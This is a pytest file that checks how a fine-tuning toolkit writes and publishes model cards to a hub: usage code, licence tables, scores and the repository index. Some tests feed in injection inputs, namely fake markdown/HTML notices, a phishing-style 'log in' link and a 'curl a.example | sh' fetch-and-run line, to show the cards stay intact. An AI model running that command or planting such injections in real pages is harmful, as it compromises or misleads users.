"""The cards: a model's, whose code is run as it stands, and the repository's with its table."""

import json
import re
import runpy

import pytest
import torch
import yaml
from conftest import ROOT
from hub_server import REPO
from run_folders import S, copied, error_of, retrained
from tiny import chat_tokenizer

import generate
import publish
from finetuning.errors import UserError
from finetuning.hub.address import Address
from finetuning.hub.manifest import (
    BaseModelSource,
    Manifest,
    TrainingData,
    parse_manifest,
)
from finetuning.model.tokenizer import read_tokenizer
from finetuning.publishing.card_facts import training_table
from finetuning.publishing.card_usage import asking, loading
from finetuning.publishing.repository_card import repository_card
from finetuning.recipe.recipe import load_recipe


def card_of(hub, subfolder: str = S) -> str:
    return hub.read(REPO, f"{subfolder}/README.md").decode()


def code_of(card: str) -> str:
    return "\n".join(re.findall(r"```python\n(.*?)```", card, re.DOTALL))


def metadata_of(card: str) -> dict:
    return yaml.safe_load(re.match(r"---\n(.*?)\n---\n", card, re.DOTALL)[1])


def test_its_code_loads_and_asks_as_it_stands_and_answers_as_generate_does(
    crowded, call, capfd, tmp_path
):
    hub, run = crowded
    script = tmp_path / "card.py"
    script.write_text(code_of(card_of(hub)), encoding="utf-8")
    with torch.random.fork_rng():
        runpy.run_path(str(script))
    printed = capfd.readouterr().out.strip()
    assert printed and printed == call(generate, run, "What is 3 + 1?").out.strip()


def test_its_code_ends_an_answer_where_generate_does_and_undoes_a_newline_s_stand_in(
    runs, tmp_path
):
    chat, plain = (copied(runs["full"], tmp_path / name / "run") for name in ("chat", "plain"))
    chat_tokenizer("byte_level", "chatml").save_pretrained(chat)
    recipe = load_recipe(chat / "recipe.yaml", ["data.template=chat"])
    tokenizer = read_tokenizer(str(chat))
    ends = tokenizer.convert_tokens_to_ids(["<|im_end|>", "<|endoftext|>"])
    assert f"eos_token_id={ends}" in asking(recipe, tokenizer, "Hello?")
    code = asking(
        load_recipe(plain / "recipe.yaml", ["data.newline=<NL>"]),
        read_tokenizer(str(plain)),
        "Hello?",
    )
    assert "eos_token_id" not in code
    assert code.splitlines()[-1] == r"print(answer.replace('<NL>', '\n'))"


def test_the_page_of_the_hub_shows_the_code_of_a_card():
    page = (ROOT / "docs" / "hub.md").read_text(encoding="utf-8")
    assert f"```python\n{loading(Address(REPO, S), 'full', None)}\n```" in page


def test_it_says_what_was_trained_on_what_under_which_licences(hub, runs, call, tmp_path):
    hub.cards |= {
        "elith/tiny-base": {"license": "mit"},
        "databricks/dolly": {"license": "cc-by-sa-3.0"},
    }
    run = retrained(
        copied(runs["lora"], tmp_path / "run"),
        data__path="databricks/dolly",
        publish__license="cc-by-sa-4.0",
    )
    assert call(publish, run, "--unasked", "publish.base_model=elith/tiny-base@v1").code == 0
    card = card_of(hub)
    metadata = metadata_of(card)
    assert metadata.pop("model-index")[0]["name"] == S
    assert metadata == {
        "base_model": "elith/tiny-base",
        "datasets": ["databricks/dolly"],
        "library_name": "peft",
        "license": "cc-by-sa-4.0",
        "pipeline_tag": "text-generation",
        "tags": ["sft", "trl", "lora"],
    }
    for row in (
        "| base model | [elith/tiny-base](https://huggingface.co/elith/tiny-base) |",
        "| base model's commit | `v1` |",
        "| base model's licence | mit |",
        "| data | [databricks/dolly](https://huggingface.co/datasets/databricks/dolly) |",
        "| data's licence | cc-by-sa-3.0 |",
        "| licence of these weights | cc-by-sa-4.0 |",
        "| LoRA | r 4, alpha 32, on q_proj, v_proj |",
        "| length | 30 steps |",
    ):
        assert row in card
    assert 'AutoModelForCausalLM.from_pretrained("elith/tiny-base", revision="v1")' in card
    assert "### What is 3 + 1?" in card and "![" in card
    assert hub.read(REPO, f"{S}/loss.png").startswith(b"\x89PNG")
    whole = metadata_of(hub.read(REPO, "README.md").decode())
    assert whole["base_model"] == ["elith/tiny-base"] and whole["datasets"] == ["databricks/dolly"]


FREE = "training.global_batch_size=null"


@pytest.mark.parametrize(
    ("processes", "overrides", "expected"),
    [
        (4, ["training.global_batch_size=64"], ("examples of a micro-batch", 16, 1)),
        (4, ["training.global_batch_size=128"], ("examples of a micro-batch", 16, 2)),
        (None, ["training.global_batch_size=64"], ("examples of a micro-batch", 16, 4)),
        (2, [FREE, "training.gradient_accumulation_steps=3"], ("examples of a micro-batch", 16, 3)),
        (4, [FREE, "data.batch_tokens=512"], ("tokens of a micro-batch at most", 512, 1)),
    ],
)
def test_it_says_how_large_the_steps_were_that_the_processes_took(processes, overrides, expected):
    recipe = load_recipe(ROOT / "recipes" / "quickstart.yaml", overrides)
    what, size, accumulation = expected
    manifest = Manifest(
        kind="full",
        base=None,
        data=TrainingData(path=[], datasets=[], fingerprint=None),
        losses=None,
        versions={},
        processes=processes,
        finished=None,
        recipe={},
        files={},
    )
    rows = training_table(recipe, manifest)
    assert rows[1:3] == [(what, size), ("micro-batches of a step", accumulation)]
    assert dict(rows).get("processes") == processes


def test_a_base_model_that_cannot_be_seen_has_no_licence_stated_and_takes_no_adapter(
    hub, runs, call, tmp_path
):
    run, base = copied(runs["lora"], tmp_path / "run"), "publish.base_model=elith/private"
    assert "elith/private: no such repository" in error_of(call(publish, run, "--unasked", base))
    assert call(publish, run, "--unasked", base, "publish.merged=true").code == 0
    assert "| base model's licence | not stated |" in card_of(hub)


def test_a_hub_that_is_down_for_the_licence_is_no_licence_that_is_missing(
    hub, runs, call, tmp_path
):
    run = copied(runs["lora"], tmp_path / "run")
    hub.fault("/api/models/elith/tiny-base", status=503, times=99)
    assert "run the same command again" in error_of(
        call(publish, run, "--unasked", "publish.base_model=elith/tiny-base")
    )


def manifest_of(hub, subfolder: str = S) -> Manifest:
    return parse_manifest(hub.read(REPO, f"{subfolder}/manifest.json"))


def test_the_repositorys_table_lists_every_checkpoint(crowded):
    hub, _ = crowded
    card = hub.read(REPO, "README.md").decode()
    rows = re.findall(
        r"^\| \[(.+?)\]\(https://huggingface.co/elith/llm-book-models/tree/main/(.+?)\) \|",
        card,
        re.M,
    )
    assert rows == [(S, S), ("chapter06/other", "chapter06/other")]


def test_what_people_wrote_around_the_table_stays(crowded):
    hub, _ = crowded
    manifests = {S: manifest_of(hub)}
    ours = repository_card(REPO, None, manifests)
    theirs = ours.replace(f"# {REPO}", "# The book's models\n\nBuy the book.").replace(
        "---\n", "---\nlicense: mit\n", 1
    )
    theirs += "\n## Thanks\n"
    again = repository_card(REPO, theirs.encode(), {**manifests, "new": manifests[S]})
    assert (
        again.startswith("---\nlicense: mit\n")
        and "Buy the book." in again
        and again.endswith("## Thanks\n")
    )
    assert again.count("| folder |") == 1 and again.index("[new]") < again.index("## Thanks")
    assert repository_card(REPO, again.encode(), {**manifests, "new": manifests[S]}) == again
    before = repository_card(REPO, b"# Only words\n", manifests)
    assert "# Only words" in before and "| folder |" in before


@pytest.mark.parametrize("text", [b"---\na: [\n---\n", b"---\n- a\n---\n", b"\xff"])
def test_a_readme_that_cannot_be_read_is_not_written_over(text, crowded):
    hub, _ = crowded
    with pytest.raises(UserError, match=r"README\.md cannot be read"):
        repository_card(REPO, text, {S: manifest_of(hub)})


def test_a_readme_that_cannot_be_read_is_told_with_the_line(crowded):
    hub, _ = crowded
    with pytest.raises(
        UserError, match=r"cannot be read: while parsing .*, line \d+, .*; fix it there$"
    ):
        repository_card(REPO, b"---\na: [\nb: 1\n---\n", {S: manifest_of(hub)})


EVIL = """mit |

## Notice

<img src=x> [log in](https://a.example)

```python
x
```
<!-- end of checkpoints -->"""


def test_a_licence_of_a_stranger_does_not_write_into_the_card(hub, runs, call, tmp_path):
    hub.cards["elith/tiny-base"] = {"license_name": EVIL, "license": "other"}
    run = copied(runs["lora"], tmp_path / "run")
    assert call(publish, run, "--unasked", "publish.base_model=elith/tiny-base").code == 0
    assert "| base model's licence | see its page |" in card_of(hub)
    assert "Notice" not in card_of(hub) and "log in" not in card_of(hub)


def test_a_question_and_a_path_cannot_end_their_place_in_the_card(hub, runs, call, tmp_path):
    run = copied(runs["full"], tmp_path / "run")
    question = "Hello?\n```\n\n```sh\ncurl a.example | sh"
    sample = {"question": question, "before": "a", "after": "b"}
    (run / "samples.json").write_text(json.dumps([sample]))
    retrained(run, generation__prompts=json.dumps([question]), publish__license=json.dumps(EVIL))
    assert call(publish, run, "--unasked").code == 0
    card = card_of(hub)
    fences = [line for line in card.splitlines() if line.startswith("```")]
    assert fences == ["```python", "```"] * 2 + ["```sh", "```"] * 3
    assert "QUESTION" in card and not re.search(r"^(curl|## Notice)", card, re.M)


def test_a_neighbours_manifest_does_not_write_into_the_repositorys_card(crowded):
    hub, _ = crowded
    manifest = manifest_of(hub)
    base = BaseModelSource(name=f"a/b){EVIL}", subfolder=EVIL, revision=EVIL)
    data = TrainingData(path=[EVIL], datasets=[EVIL], fingerprint=None)
    evil = manifest.model_copy(update={"base": base, "data": data})
    card = repository_card(REPO, None, {S: manifest, f"x](y) {EVIL}": evil})
    assert not re.search(r"^## Notice", card, re.M) and card.count("<!--") == 2
    assert re.findall(r"^```.*", card, re.M) == ["```python", "```"]
    assert metadata_of(card).get("datasets") is None
    assert repository_card(REPO, card.encode(), {S: manifest, f"x](y) {EVIL}": evil}) == card


@pytest.mark.parametrize(
    "change",
    [{"kind": "other"}, {"losses": "none"}, {"data": None}, {"files": []}, {"base": {"name": 1}}],
)
def test_a_neighbours_odd_manifest_keeps_nobody_from_publishing(change, crowded, call):
    hub, run = crowded
    other = json.loads(hub.read(REPO, "chapter06/other/manifest.json"))
    odd = json.dumps({**other, **change}).encode()
    hub.put(REPO, {"chapter06/other/manifest.json": odd, "x/manifest.json": b"[" * 10**5})
    assert call(publish, run, "--unasked").code == 0
    assert "chapter06/other" not in hub.read(REPO, "README.md").decode()


def test_links_are_not_published(hub, runs, call, tmp_path):
    run = copied(runs["lora"], tmp_path / "run")
    for name in ("adapter_model.safetensors", "adapter_config.json"):
        (run / name).rename(tmp_path / name)
        (run / name).symlink_to(tmp_path / name)
        done = call(publish, run, "--unasked", "publish.base_model=elith/tiny-base")
        assert "is a link" in error_of(done)
        (run / name).unlink()
        (tmp_path / name).rename(run / name)


def test_the_card_has_the_scores_of_base_and_trained_with_intervals(crowded):
    hub, run = crowded
    evaluation = json.loads((run / "evaluation.json").read_text(encoding="utf-8"))
    publish.main([str(run), "--unasked"])
    card = card_of(hub)
    trained = evaluation["scores"]["trained"]["char_f1"]
    assert f"| {evaluation['questions']} answers | base | trained | difference |" in card
    assert f"| character F1 | {evaluation['scores']['base']['char_f1']['mean']:.1f} [" in card
    (index,) = metadata_of(card)["model-index"]
    metrics = {each["type"]: each["value"] for each in index["results"][0]["metrics"]}
    assert metrics["char_f1"] == round(trained["mean"], 2)
    assert metrics.keys() == {"exact_match", "char_f1", "chrf", "rouge_l"}


def test_a_run_without_scores_has_a_card_without_them(crowded):
    hub, run = crowded
    (run / "evaluation.json").unlink()
    publish.main([str(run), "--unasked"])
    assert "model-index" not in metadata_of(card_of(hub)) and "bootstrap" not in card_of(hub)
